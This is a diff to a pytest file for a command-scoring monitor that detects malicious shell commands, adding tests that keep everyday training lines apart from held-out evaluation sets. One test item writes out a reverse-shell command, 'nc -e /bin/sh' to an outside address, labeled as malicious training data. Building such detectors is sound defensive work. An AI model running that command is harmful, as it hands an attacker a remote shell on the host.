@@ -15,6 +15,7 @@ import subprocess
 import sys
 import time
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -364,9 +365,56 @@ def test_the_training_script_runs_end_to_end_on_a_small_sample(tmp_path: Path) -
         assert r["both_detect"] >= max(r["rules_detect"], r["scorer_detect"])
     model = CommandScorer.load(out)
     assert model.weights and model.meta["loso"] == rows
-    assert "heldout9" not in json.dumps(model.meta["training"])  # the fresh set is not read
+    assert "heldout10" not in json.dumps(model.meta["training"])  # the fresh set is not read
     assert isinstance(model.score(ATTACKS[0]).value, float)
     _assert_bound_holds(model, ATTACKS + NEAR_MISSES)
+
+
+def _train_scorer_module() -> object:
+    import importlib.util
+
+    path = ROOT / "scripts" / "train_scorer.py"
+    spec = importlib.util.spec_from_file_location("train_scorer", path)
+    assert spec is not None and spec.loader is not None
+    mod = sys.modules.get("train_scorer")
+    if mod is None:
+        mod = sys.modules["train_scorer"] = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(mod)
+    return mod
+
+
+def test_the_everyday_lines_name_their_class_and_the_set_they_were_written_from() -> None:
+    ts: Any = _train_scorer_module()
+    sets = {name for name, *_ in ts.SETS}
+    assert all(name == "dev" or int(name) < ts.FRESH for name in sets)  # never the fresh set
+    malicious = {
+        " ".join(str(json.loads(line).get("command", "")).split()).lower()
+        for path in (ROOT / "src" / "corral" / "monitor" / "corpus").glob("*.jsonl")
+        if path.name.startswith(tuple(f for _, *files in ts.SETS for f in files if f))
+        for line in path.read_text(encoding="utf-8").splitlines()
+        if line.strip() and json.loads(line).get("label") == "malicious"
+    }
+    rows = ts._read_jsonl(ts.EVERYDAY)
+    assert len(rows) > 800
+    for row in rows:
+        assert isinstance(row["class"], str) and row["class"], row
+        assert row.get("from") is None or row["from"] in sets - {"dev", "1"}, row
+        assert " ".join(row["command"].split()).lower() not in malicious, row
+
+
+def test_a_held_out_sets_everyday_lines_leave_training_with_it() -> None:
+    ts: Any = _train_scorer_module()
+    items = [
+        ts.Item("9", 0, "tcpdump -i lo"),
+        ts.Item("8", 1, "nc -e /bin/sh 203.0.113.1 4444"),
+        ts.Item("breadth", 0, "TCPDUMP  -i lo"),  # equal to a held line
+        ts.Item("breadth", 0, "multipass purge", source="9"),  # written from set 9
+        ts.Item("breadth", 0, "kind delete cluster", source="8"),
+        ts.Item("breadth", 0, "ls -la"),
+    ]
+    train = [1, 2, 3, 4, 5]
+    assert ts._disjoint(items, train, [0]) == [1, 4, 5]
+    assert ts._disjoint(items, [2, 3, 5], [1]) == [2, 3, 5]
 
 
 # ---------------------------------------------------------------- the fast reject is exact
